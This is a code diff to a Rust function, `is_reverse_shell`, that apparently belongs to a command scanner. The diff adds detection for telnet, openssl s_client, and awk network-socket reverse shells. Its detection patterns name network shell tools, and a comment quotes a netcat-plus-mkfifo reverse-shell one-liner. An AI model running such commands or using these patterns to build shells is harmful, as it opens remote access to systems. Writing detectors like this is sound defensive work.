@@ -54,7 +54,8 @@ fn is_reverse_shell(step: &Step<'_>) -> bool {
     if net && step.arguments().iter().any(is_exec) {
         return true;
     }
-    if net && reaches_shell(step) {
+    let is_stream = name == "telnet" || name == "openssl" && step.first() == "s_client";
+    if (net || is_stream) && reaches_shell(step) {
         return true;
     }
     if name == "socat" && step.arguments().iter().any(|word| word.text.to_ascii_lowercase().contains("exec:"))
@@ -63,7 +64,9 @@ fn is_reverse_shell(step: &Step<'_>) -> bool {
     }
     let is_script =
         ["python", "perl", "ruby", "php", "powershell", "pwsh", "lua"].iter().any(|it| name.starts_with(it));
+    let is_network_awk = |word: &Word| word.text.contains("/inet/tcp/") || word.text.contains("/inet/udp/");
     is_script && step.arguments().iter().any(|word| is_socket_program(&word.text))
+        || name.ends_with("awk") && step.arguments().iter().any(is_network_awk)
 }
 
 /// Netcat between two shells: `mkfifo f; cat f | sh | nc host port > f`.
